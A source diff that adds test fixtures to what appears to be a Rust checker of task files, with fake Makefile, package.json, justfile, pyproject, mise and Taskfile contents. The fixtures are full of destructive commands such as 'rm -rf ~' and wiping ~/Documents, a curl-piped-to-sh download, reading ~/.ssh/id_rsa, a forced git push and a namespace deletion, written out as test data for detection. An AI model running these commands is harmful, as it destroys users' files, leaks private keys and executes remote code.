@@ -157,10 +157,18 @@ fn program(name: &str) -> String {
     }
 }
 
-const MAKEFILE: &str = "OUT := target\nUNSET_DIR = $(PREFIX)\n.PHONY: all clean\nall: build\n\t@echo done\nbuild:\n\tcargo build\n\t./scripts/native > docs/out.txt\nclean:\n\t-rm -rf $(OUT) dist *.o\n\trm -f notes.o\ndistclean: clean\n\trm -rf $(HOME)/Documents\ninstall:\n\trm -rf $(UNSET_DIR)/bin\nnuke: wipe\nwipe: ; rm -rf ~\nfetch:\n\tcurl -s https://example.org/x.sh | sh\ndeploy:\n\tkubectl delete namespace shop\nrun:\n\tset -a; . ./.env; ./scripts/native\nkeys:\n\tcat ~/.ssh/id_rsa\npush:\n\tgit push --force origin main\nreset:\n\tgit reset --hard && git clean -fdx\nsub:\n\t$(MAKE) -C docs wipe\n";
-const PACKAGE: &str = r#"{"name": "shop", "scripts": {"build": "tsc -p . && rimraf dist", "test": "vitest run", "clean": "rm -rf dist node_modules", "prewipe": "echo x", "wipe": "rm -rf ~/Documents", "serve": "node server.js > out.log", "postbad": "rm -rf ~", "bad": "echo bad", "release": "npm publish", "prepare": "husky"}}"#;
-const JUSTFILE: &str = "out := 'dist'\n\nbuild:\n    cargo build\n\nclean dir='target':\n    rm -rf {{out}} {{dir}}\n\nwipe: build\n    rm -rf ~/Documents\n";
-const TASKFILE: &str = "version: '3'\nvars:\n  OUT: dist\ntasks:\n  build:\n    cmds:\n      - go build ./...\n      - rm -rf {{.OUT}}\n  wipe:\n    deps: [build]\n    cmds:\n      - rm -rf ~/Documents\n";
+const MAKEFILE: &str = "OUT := target\nUNSET_DIR = $(PREFIX)\n.PHONY: all clean\nall: build\n\t@echo done\nbuild:\n\tcargo build\n\t./scripts/native > docs/out.txt\nclean:\n\t-rm -rf $(OUT) dist *.o\n\trm -f notes.o\ndistclean: clean\n\trm -rf $(HOME)/Documents\ninstall:\n\trm -rf $(UNSET_DIR)/bin\nnuke: wipe\nwipe: ; rm -rf ~\nfetch:\n\tcurl -s https://example.org/x.sh | sh\ndeploy:\n\tkubectl delete namespace shop\nrun:\n\tset -a; . ./.env; ./scripts/native\nkeys:\n\tcat ~/.ssh/id_rsa\npush:\n\tgit push --force origin main\nreset:\n\tgit reset --hard && git clean -fdx\nsub:\n\t$(MAKE) -C docs wipe\n\
+WHERE := $(shell cat where.txt)\nVERSION := $(shell git describe)\nOBJS := $(patsubst %.c,build/%.o,$(wildcard src/*.c))\n\
+define forget\nrm -rf $(1)\nendef\n\
+called:\n\t$(call forget,~/Documents)\nlooped:\n\t$(foreach d,Documents,rm -rf ~/$(d);)\n\
+stem-%:\n\trm -rf ~/$*\nown: D = ~/Documents\nown:\n\trm -rf $(D)\n\
+open:\n\trm -rf $(WHERE)/cache\nprogram:\n\t$(WHERE) now\ncode:\n\tbash -c \"$(WHERE)\"\n\
+python: SHELL := python3\npython:\n\timport shutil; shutil.rmtree('/home/alice/Documents')\n\
+image:\n\tdocker build -t shop:$(VERSION) .\nobjects:\n\t$(CC) $(CFLAGS) -o $@ $(OBJS)\n\t$(GOPATH)/bin/lint ./...\ntidy:\n\trm -rf build-$(VERSION) $(OBJS)\n";
+const PACKAGE: &str = r#"{"name": "shop", "scripts": {"build": "tsc -p . && rimraf dist", "test": "vitest run", "clean": "rm -rf dist node_modules", "prewipe": "echo x", "wipe": "rm -rf ~/Documents", "serve": "node server.js > out.log", "postbad": "rm -rf ~", "bad": "echo bad", "release": "npm publish", "prepare": "husky", "all": "run-s build test", "each": "run-p 'w*'"}}"#;
+const JUSTFILE: &str = "out := 'dist'\n\nbuild:\n    cargo build\n\nclean dir='target':\n    rm -rf {{out}} {{dir}}\n\nwipe: build\n    rm -rf ~/Documents\n\nhome := env_var('HOME') / 'Documents'\n\ncomputed:\n    rm -rf {{home}}\n\nscript:\n    #!/usr/bin/env python3\n    import shutil\n    shutil.rmtree('/home/alice/Documents')\n\nversion:\n    docker build -t shop:{{`git describe`}} .\n";
+const PYPROJECT: &str = "[tool.poe.tasks]\nlint = 'ruff check'\nwipe = { shell = 'rm -rf ~/Documents' }\n[tool.pdm.scripts]\nwipe = 'rm -rf ~/Documents'\ntest = 'pytest'\n";
+const TASKFILE: &str = "version: '3'\nvars:\n  OUT: dist\ntasks:\n  build:\n    cmds:\n      - go build ./...\n      - rm -rf {{.OUT}}\n  wipe:\n    deps: [build]\n    cmds:\n      - rm -rf ~/Documents\n  checked:\n    status:\n      - rm -rf ~/Documents\n    cmds: [go build]\n  each:\n    cmds:\n      - for: [Documents]\n        cmd: rm -rf ~/{{.ITEM}}\n  deep:\n    dir: sub\n    cmds:\n      - go test ./...\n";
 
 /// Files of tasks, and programs in other languages.
 fn program_text(path: &str) -> Answer {
@@ -171,6 +179,8 @@ fn program_text(path: &str) -> Answer {
         "/home/alice/shop/Makefile" => MAKEFILE,
         "/home/alice/shop/docs/Makefile" => "wipe:\n\trm -rf ~/Documents\n",
         "/home/alice/shop/package.json" => PACKAGE,
+        "/home/alice/shop/pyproject.toml" => PYPROJECT,
+        "/home/alice/shop/mise.toml" => "[tasks.wipe]\nrun = 'rm -rf ~/Documents'\n[tasks.lint]\nrun = 'cargo clippy'\n",
         "/home/alice/shop/justfile" => JUSTFILE,
         "/home/alice/shop/Taskfile.yml" => TASKFILE,
         "/home/alice/shop/deno.json" => r#"{"tasks": {"dev": "deno run -A server.ts", "wipe": "rm -rf ~/Documents"}}"#,
